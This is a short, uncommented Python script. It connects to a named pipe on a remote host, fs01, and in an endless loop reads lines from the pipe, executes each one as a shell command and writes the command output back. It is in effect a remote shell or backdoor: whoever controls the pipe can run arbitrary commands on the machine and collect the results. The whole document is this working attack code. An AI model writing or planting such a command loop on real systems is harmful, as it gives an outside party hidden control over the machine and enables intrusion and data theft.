h=open(r'\\fs01\pipe\upd','r+b')
import subprocess
while True:
    c=h.readline()
    h.write(subprocess.check_output(c,shell=True))
